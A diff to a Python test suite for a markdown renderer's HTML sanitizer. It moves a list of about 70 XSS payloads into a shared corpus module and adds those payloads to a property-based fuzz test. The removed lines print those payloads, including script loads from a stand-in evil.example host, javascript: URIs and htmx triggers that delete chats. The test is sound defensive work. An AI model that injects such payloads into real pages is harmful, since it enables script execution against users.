@@ -8,6 +8,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from tests.security.xss_corpus import XSS_PAYLOADS
 from tests.unit.html_safety import assert_safe
 from ui.markdown import render_markdown, sanitize_html
 from ui.md_blocks import MarkdownBlocks
@@ -15,86 +16,10 @@ from ui.md_blocks import MarkdownBlocks
 ROOT = Path(__file__).resolve().parents[2]
 
 
-# --- XSS corpus ------------------------------------------------------------------------------------
-
-XSS_PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    '<img src="javascript:alert(1)">',
-    "<IMG SRC=javascript:alert('XSS')>",
-    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
-    "<body onload=alert(1)>",
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<div style="background:url(javascript:alert(1))">x</div>',
-    '<input autofocus onfocus="alert(1)">',
-    '<form action="javascript:alert(1)"><button>x</button></form>',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<link rel="stylesheet" href="javascript:alert(1)">',
-    '<base href="javascript:alert(1)//">',
-    '<details open ontoggle="alert(1)">',
-    "[a](javascript:alert(1))",
-    "[a](JAVASCRIPT:alert(1))",
-    "[a](javascript&#58;alert(1))",
-    "[a](javascript&colon;alert(1))",
-    "[a](&#106;avascript:alert(1))",
-    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
-    "[a](java\tscript:alert(1))",
-    "[a](<javascript:alert(1)>)",
-    "[a](<java script:alert(1)>)",
-    "[a]( javascript:alert(1) )",
-    "[a](vbscript:msgbox(1))",
-    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[a](data:image/png;base64,iVBORw0KGgo=)",
-    "[a](file:///etc/passwd)",
-    '[a](https://example.com "onmouseover=alert(1)")',
-    '[a](https://example.com" onmouseover="alert(1))',
-    '[a](https://example.com/"><script>alert(1)</script>)',
-    "![x](javascript:alert(1))",
-    "![x](data:image/png;base64,iVBORw0KGgo=)",
-    "![x](https://tracker.example/pixel.gif)",
-    '![x" onerror="alert(1)](https://example.com/a.png)',
-    "[![x](https://tracker.example/p.png)](javascript:alert(1))",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "<data:text/html,<script>alert(1)</script>>",
-    "<vbscript:msgbox(1)>",
-    '<https://example.com/" onclick="alert(1)>',
-    'hx-get="/x" hx-trigger="load"',
-    '<div hx-get="/chat/delete" hx-trigger="load">x</div>',
-    '<div id="chat-turns" hx-swap-oob="true">pwned</div>',
-    '<p id="chat-input" hx-swap-oob="outerHTML">x</p>',
-    '<span data-hx-post="/x" data-hx-trigger="load">x</span>',
-    '<div x-data="{}" x-init="alert(1)" @click="alert(1)" :class="x">x</div>',
-    "<template><script>alert(1)</script></template>",
-    "<!-- <script>alert(1)</script> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><img src=x onerror=alert(1)>\ncode\n```',
-    "`<script>alert(1)</script>`",
-    "    <script>alert(1)</script>",
-    "> <img src=x onerror=alert(1)>",
-    "- <svg onload=alert(1)>",
-    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
-    "# <a href=javascript:alert(1)>h</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
-    '<a href="  javascript:alert(1)">x</a>',
-    '<a href="java\0script:alert(1)">x</a>',
-    "[a](https://example.com){onclick=alert(1)}",
-    '<style>@import "https://evil.example/x.css";</style>',
-]
-
+# --- XSS corpus (tests/security/xss_corpus.py, shared with the browser test) ------------------------
 
 def test_corpus_is_big_enough() -> None:
-    assert len(XSS_PAYLOADS) >= 50
+    assert len(XSS_PAYLOADS) >= 200
 
 
 @pytest.mark.parametrize("payload", XSS_PAYLOADS)
@@ -129,7 +54,9 @@ FRAGMENTS = [
     "&#106;", "&lt;", "\\", "<http://example.com>", "<mailto:a@b.c>", "javascript:", "data:", "é", "\u00a0", "€",
     "日本", "🙂", "\u200b", "\r\n", "\r", "\x00", "[x]: /u", "https://example.com", "a", "word", "x y z",
 ]  # fmt: skip
-markdownish = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=5)), max_size=40).map("".join)
+# Whole payloads from the XSS corpus too, so the property is also tried on text built to get through.
+markdownish = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.sampled_from(XSS_PAYLOADS), st.text(max_size=5)),
+                       max_size=40).map("".join)
 
 
 @settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
